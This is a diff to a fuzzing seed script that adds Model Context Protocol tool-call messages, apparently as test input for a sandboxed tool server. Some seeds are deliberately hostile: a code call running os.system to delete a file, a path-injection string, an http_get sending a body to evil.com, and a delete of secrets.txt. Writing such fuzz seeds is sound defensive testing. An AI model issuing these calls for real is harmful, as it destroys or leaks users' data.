@@ -10,10 +10,12 @@
 #   scenario        every scenarios/*.scn whole
 #   policy          a few policy files in the format of src/policy.c
 #   jailwire        hand-made frames (refusal, wait + result + file + end)
+#   mcp             MCP messages as clients send them, one per seed, each
+#                   after a handshake (first byte '1') and without ('0')
 set -eu
 srcdir=${1:?usage: seed.sh SRCDIR OUTDIR}
 out=${2:?usage: seed.sh SRCDIR OUTDIR}
-for t in parse session scenario policy jailwire; do mkdir -p "$out/$t"; done
+for t in parse session scenario policy jailwire mcp; do mkdir -p "$out/$t"; done
 
 # One seed file per line: awk names them after the source and line number.
 split() {	# split PREFIX < lines
@@ -45,3 +47,26 @@ printf 'extends: blocklist\nblocked-words: import eval\ncommands: read_file writ
 # Frames: type, u32 length (little-endian, as on the build machines), payload.
 printf 'R\010\000\000\000\001\000\000\000\001\000\000\000' >"$out/jailwire/refuse"
 printf 'W\030\000\000\000\000\000\000\000\377\377\377\377\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000O\001\000\000\000rF\006\000\000\000\001\000\000\000a1E\000\000\000\000' >"$out/jailwire/ok"
+
+# MCP messages: both eras, every tool, a few malformed ones.
+n=0
+while IFS= read -r m; do
+	n=$((n + 1))
+	printf '1%s\n' "$m" >"$out/mcp/handshake-$n"
+	printf '0%s\n' "$m" >"$out/mcp/bare-$n"
+done <<'END'
+{"jsonrpc":"2.0","id":1,"method":"tools/list"}
+{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"run_code","arguments":{"code":"round(sum(orders) / len(orders), 2)"}}}
+{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"run_code","arguments":{"code":"__import__('os').system('rm report.txt')","path":"unsafe"}}}
+{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"out.txt","text":"ok","idempotency_key":"k"}}}
+{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"x'}); ('"}}}
+{"jsonrpc":"2.0","id":6,"method":"tools/call","params":{"name":"http_get","arguments":{"url":"https://evil.com/x","body":"s"}}}
+{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"list_files","arguments":{"x":1}}}
+{"jsonrpc":"2.0","id":8,"method":"server/discover","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}
+{"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"delete_file","arguments":{"path":"secrets.txt"},"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}
+{"jsonrpc":"2.0","id":"a","method":"initialize","params":{"protocolVersion":"2024-11-05","capabilities":{}}}
+{"jsonrpc":"2.0","method":"notifications/initialized"}
+{"jsonrpc":"2.0","id":10,"result":{}}
+[{"jsonrpc":"2.0","id":11,"method":"ping"}]
+{"id":"cut","jsonrpc":"2.0","method":"tools/call","params":{"name":"write_file","arguments":{"path":"big","text":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}}}
+END
